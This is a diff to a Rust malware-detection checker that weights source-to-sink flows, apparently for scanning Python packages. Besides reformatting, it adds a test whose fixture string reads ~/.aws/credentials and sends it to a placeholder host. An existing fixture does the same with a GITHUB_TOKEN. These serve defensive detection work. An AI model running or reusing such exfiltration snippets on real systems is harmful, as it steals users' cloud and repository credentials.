@@ -53,14 +53,42 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
         (SourceKind::Secret, SinkKind::Network) if from_environment_variable => 0.05,
         (SourceKind::Secret, SinkKind::Network) => 0.2,
-        (SourceKind::SystemInfo, SinkKind::Network) => if early { 0.75 } else { 0.12 },
-        (SourceKind::Environment, SinkKind::Network) => if early { 0.75 } else { 0.2 },
-        (SourceKind::Network, SinkKind::Process) => if early { 0.85 } else { 0.35 },
-        (SourceKind::Decoded, SinkKind::Process) => if early { 0.7 } else { 0.3 },
+        (SourceKind::SystemInfo, SinkKind::Network) => {
+            if early {
+                0.75
+            } else {
+                0.12
+            }
+        }
+        (SourceKind::Environment, SinkKind::Network) => {
+            if early {
+                0.75
+            } else {
+                0.2
+            }
+        }
+        (SourceKind::Network, SinkKind::Process) => {
+            if early {
+                0.85
+            } else {
+                0.35
+            }
+        }
+        (SourceKind::Decoded, SinkKind::Process) => {
+            if early {
+                0.7
+            } else {
+                0.3
+            }
+        }
         (SourceKind::Secret, SinkKind::Process) if early => 0.15,
         (_, _) => 0.05,
     };
-    let severity = if context == ExecContext::TestOrDocs { severity * 0.3 } else { severity };
+    let severity = if context == ExecContext::TestOrDocs {
+        severity * 0.3
+    } else {
+        severity
+    };
     let sink_word = match sink {
         SinkKind::Network => "network",
         SinkKind::Process => "process",
@@ -98,7 +126,10 @@ mod tests {
     fn secret_to_network_is_traced() {
         let code = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\ndata = {'t': token}\nrequests.post('https://example.invalid', json=data)\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
-        let flows: Vec<_> = findings("p/pkg/__init__.py", code).into_iter().filter(|f| f.rule == "WH200").collect();
+        let flows: Vec<_> = findings("p/pkg/__init__.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
         assert!(flows[0].message.contains("p/pkg/__init__.py:2"));
     }
 
@@ -109,8 +140,15 @@ mod tests {
     }
 
     #[test]
+    fn credentials_read_through_a_handle_flow() {
+        let code = "import os, urllib.request\npath = os.path.expanduser('~/.aws/credentials')\nwith open(path) as handle:\n    stolen = handle.read()\nurllib.request.urlopen('https://example.invalid', data=stolen.encode())\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
+    }
+
+    #[test]
     fn unrelated_data_does_not_flow() {
-        let code = "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
+        let code =
+            "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
         assert_eq!(max_severity("p/pkg/__init__.py", code, "WH200"), 0.0);
     }
 }
